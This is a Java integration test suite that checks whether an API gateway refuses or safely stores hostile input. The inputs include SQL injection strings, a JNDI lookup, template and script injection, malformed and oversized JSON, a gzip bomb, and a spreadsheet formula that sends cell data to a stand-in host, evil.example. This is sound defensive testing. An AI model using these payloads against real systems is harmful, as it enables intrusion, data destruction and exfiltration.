package org.wego.journey;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.wego.journey.kit.Api;
import org.wego.journey.kit.NewApplication;
import org.wego.journey.kit.RunningStack;

/**
 * What is sent to make a program do something else than it was made for: it is refused with a
 * problem or kept as the text that it is, soon, and never a failure. What the services' own tests
 * show of one service is shown here of the suite, through the gateway.
 */
@Journey
@Order(12)
class HostileInputIT {

  /** Answers that are more than a list, whose table is their list in a page. */
  private static final Set<String> WRAPPED =
      Set.of(
          "/api/v1/award-editions/{id}/ranking",
          "/api/v1/billing-accounts/{memberId}/statement",
          "/api/v1/trial-balance");

  private static final String JSON = "application/json";

  /** What callers would like to say of themselves and of what they send. */
  private static final List<String> UNDECLARED =
      List.of(
          "id",
          "status",
          "state",
          "memberId",
          "version",
          "role",
          "roles",
          "createdBy",
          "amount",
          "balance",
          "approved",
          "__proto__",
          "constructor",
          "prototype",
          "class",
          "@class",
          "$type",
          "");

  private static final List<String> CALLERS =
      List.of(
          "secretariat",
          "member-seoul",
          "applicant",
          "committee-seoul",
          "judge-1",
          "partner-ceds",
          "office-asia");

  private static BareHttp http;
  private static Api api;
  private static DeclaredBodies bodies;

  @BeforeAll
  static void meet(RunningStack stack, Api given) {
    api = given;
    http = new BareHttp(stack);
    api.haveRosterAndIndicators();
    bodies = new DeclaredBodies(http.get(null, "//openapi.json").json());
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, UTF_8);
  }

  private static void isRefused(BareHttp.Answer answer, int status, String code) {
    assertThat(answer.status()).as("%s", answer).isEqualTo(status);
    assertThat(answer.code()).as("%s", answer).isEqualTo(code);
  }

  @Test
  void no_body_holds_more_than_its_operation_declares() {
    List<DeclaredBodies.Declared> all = bodies.all();
    assertThat(all).hasSizeGreaterThan(100);
    List<String> taken = new ArrayList<>();
    for (DeclaredBodies.Declared declared : all) {
      Set<String> expected = new TreeSet<>();
      ObjectNode body = declared.example().deepCopy();
      for (String name : UNDECLARED) {
        if (!declared.fields().contains(name)) {
          body.put(name, "mine");
          expected.add("/" + name);
        }
      }
      BareHttp.Answer answer = sentByWhoeverMay(declared, body);
      if (!unknownFields(answer).containsAll(expected)) {
        taken.add(declared + ": " + answer);
      }
    }
    assertThat(taken).as("of %d operations", all.size()).isEmpty();
  }

  private static BareHttp.Answer sentByWhoeverMay(DeclaredBodies.Declared declared, JsonNode body) {
    BareHttp.Answer answer = null;
    for (String caller : CALLERS) {
      answer =
          http.send(
              caller,
              declared.method(),
              declared.path(),
              Map.of("Content-Type", JSON, "If-Match", "*"),
              body.toString().getBytes(UTF_8));
      if (answer.status() != 403) {
        break;
      }
    }
    return answer;
  }

  private static Set<String> unknownFields(BareHttp.Answer answer) {
    Set<String> pointers = new TreeSet<>();
    if (answer.status() == 400) {
      for (JsonNode fault : answer.json().path("errors")) {
        if (fault.path("code").asText().equals("UNKNOWN_FIELD")) {
          pointers.add(fault.path("pointer").asText());
        }
      }
    }
    return pointers;
  }

  /** A parameter of free text of each service, and one that finds by exactly that. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "/members?q=",
        "/membership-applications?q=",
        "/partners?q=",
        "/membership-messages?recipient=",
        "/bank-statement-entries?account=",
        "/fees-messages?recipient=",
        "/award-entries?city=",
        "/award-messages?kind=",
        "/good-practices?q=",
        "/events?series=",
        "/event-messages?recipient=",
        "/webhook-subscriptions?eventType="
      })
  void a_parameter_is_a_value_and_never_a_part_of_a_query(String list) {
    for (String text :
        List.of(
            "zzz' OR '1'='1",
            "zzz'; DROP TABLE member; --",
            "zzz') UNION SELECT * FROM member --",
            "zzz' || pg_sleep(30) || '",
            "zzz%' ESCAPE 'z",
            "zzz\\' OR 1=1 /*",
            "${jndi:ldap://127.0.0.1/zzz}",
            "{{7*7}}zzz")) {
      BareHttp.Answer answer = http.get("secretariat", list + encoded(text));
      assertThat(answer.status()).as("%s%s: %s", list, text, answer).isIn(200, 400);
      assertThat(answer.json().path("items")).as("%s%s: %s", list, text, answer).isEmpty();
    }
    for (String odd : List.of("a%00b", "a%1bb", "%ff%fe", "%c0%af", "%ed%a0%80")) {
      BareHttp.Answer answer = http.get("secretariat", list + odd);
      assertThat(answer.status()).as("%s%s: %s", list, odd, answer).isIn(200, 400);
    }
    isRefused(http.get("secretariat", list + "a%00b"), 400, "INVALID_INPUT");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/members",
        "/invoices",
        "/award-entries",
        "/events",
        "/webhook-subscriptions",
        "/ledger-entries"
      })
  void an_order_is_one_of_those_that_are_declared(String list) {
    for (String order : List.of("id;DROP TABLE member", "(SELECT 1)", "id,name--", "1", "-")) {
      BareHttp.Answer answer = http.get("secretariat", list + "?sort=" + encoded(order));
      isRefused(answer, 400, "INVALID_INPUT");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Robert'); DROP TABLE member;--town",
        "${jndi:ldap://127.0.0.1/a} {{7*7}} #{7*7} <%= 7*7 %>ville",
        "<script>alert(1)</script>burg",
        "%s%s%s%n%x\\u0041 city"
      })
  void a_text_that_means_something_elsewhere_is_kept_as_it_is(String name) {
    long members = api.memberCount();
    UUID draft = api.draft(Api.APPLICANT, NewApplication.ofCity(name, "FR", "EUROPE", 100_000));
    BareHttp.Answer read = http.get(Api.APPLICANT, "/membership-applications/" + draft);

    assertThat(read.json().at("/organization/name").asText()).isEqualTo(name);
    assertThat(read.type()).startsWith(JSON);
    assertThat(read.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(read.headers().firstValue("Content-Security-Policy"))
        .hasValueSatisfying(policy -> assertThat(policy).contains("default-src 'none'"));
    assertThat(api.memberCount()).isEqualTo(members);
  }

  private static Stream<Arguments> whatIsNoPlainDocument() {
    String named = "{\"organization\":{\"population\":%s}}";
    return Stream.of(
        arguments("ten thousand levels of arrays", "[".repeat(10_000).getBytes(UTF_8)),
        arguments("ten thousand levels of objects", "{\"a\":".repeat(10_000).getBytes(UTF_8)),
        arguments("a number of 100,000 digits", named.formatted("9".repeat(100_000)).getBytes()),
        arguments("no number", named.formatted("NaN").getBytes(UTF_8)),
        arguments("a name twice", "{\"referredBy\":null,\"referredBy\":null}".getBytes(UTF_8)),
        arguments("a name twice, once escaped", "{\"a\":1,\"\\u0061\":2}".getBytes(UTF_8)),
        arguments("bytes that are no UTF-8", "{\"a\":\"\u00e9\"}".getBytes(ISO_8859_1)),
        arguments("an overlong slash", new byte[] {'"', (byte) 0xC0, (byte) 0xAF, '"'}),
        arguments("a mark of the byte order", "\uFEFF{}".getBytes(UTF_8)),
        arguments("UTF-16", "{\"a\":1}".getBytes(UTF_16BE)),
        arguments("two documents", "{}{}".getBytes(UTF_8)),
        arguments("a comment", "{/* */}".getBytes(UTF_8)),
        arguments("a raw line break in a text", "{\"a\":\"b\nc\"}".getBytes(UTF_8)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("whatIsNoPlainDocument")
  void what_is_no_plain_document_is_refused(String what, byte[] body) {
    BareHttp.Answer answer = http.post(Api.APPLICANT, "/membership-applications", JSON, body);

    isRefused(answer, 400, "MALFORMED_JSON");
    assertThat(answer.text()).as(what).doesNotContainIgnoringCase("jackson").hasSizeLessThan(1_000);
  }

  @ParameterizedTest
  @CsvSource({"1e400", "1e-400", "-1e999999999", "9223372036854775808", "1.0000000001"})
  void a_number_that_no_field_holds_is_refused_and_never_spelled_out(String number) {
    String body = "{\"organization\":{\"population\":%s}}".formatted(number);
    BareHttp.Answer answer =
        http.post(Api.APPLICANT, "/membership-applications", JSON, body.getBytes(UTF_8));

    isRefused(answer, 400, "INVALID_INPUT");
    assertThat(answer.text()).contains("/organization/population").hasSizeLessThan(5_000);
  }

  @Test
  void a_document_that_is_too_large_is_refused_and_one_that_is_packed_is_not_unpacked() {
    byte[] large = ("{\"a\":\"" + "x".repeat(300_000) + "\"}").getBytes(UTF_8);
    isRefused(
        http.post(Api.APPLICANT, "/membership-applications", JSON, large), 413, "BODY_TOO_LARGE");

    BareHttp.Answer packed =
        http.send(
            Api.APPLICANT,
            "POST",
            "/membership-applications",
            Map.of("Content-Type", JSON, "Content-Encoding", "gzip"),
            HostileFiles.gzip(100));
    assertThat(packed.status()).as("%s", packed).isIn(400, 415);
  }

  @Test
  void no_list_is_a_table_in_which_a_spreadsheet_finds_a_formula() {
    for (String name :
        List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Seoul\")",
            "+Plustown",
            "-Minustown",
            "@SUM(A1)ville",
            "＝Widetown")) {
      api.draft(Api.APPLICANT, NewApplication.ofCity(name, "FR", "EUROPE", 100_000));
    }
    BareHttp.Answer table =
        http.send(
            "secretariat",
            "GET",
            "/membership-applications?status=DRAFT",
            Map.of("Accept", "text/csv"),
            new byte[0]);

    assertThat(table.status()).as("%s", table).isEqualTo(200);
    assertThat(table.type()).startsWith("text/csv");
    assertThat(table.text())
        .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Seoul\"\")\"")
        .contains("'+Plustown", "'-Minustown", "'@SUM(A1)ville", "'＝Widetown");
    assertThat(table.text().split("\r\n"))
        .noneMatch(line -> line.matches(".*(^|[,\"])[=+@＝][A-Za-z].*"));
  }

  /**
   * One writer makes every table: each operation with one answers a page, or wraps a part of its
   * answer in one.
   */
  @Test
  void every_table_is_of_a_list_and_so_written_by_the_one_writer() {
    List<String> others = new ArrayList<>();
    bodies
        .contract()
        .path("paths")
        .properties()
        .forEach(
            path -> {
              JsonNode content = path.getValue().at("/get/responses/200/content");
              String page = content.at("/application~1json/schema/$ref").asText();
              if (content.has("text/csv") && !page.contains("/Page")) {
                others.add(path.getKey());
              }
            });
    assertThat(others).containsExactlyInAnyOrderElementsOf(WRAPPED);
  }
}
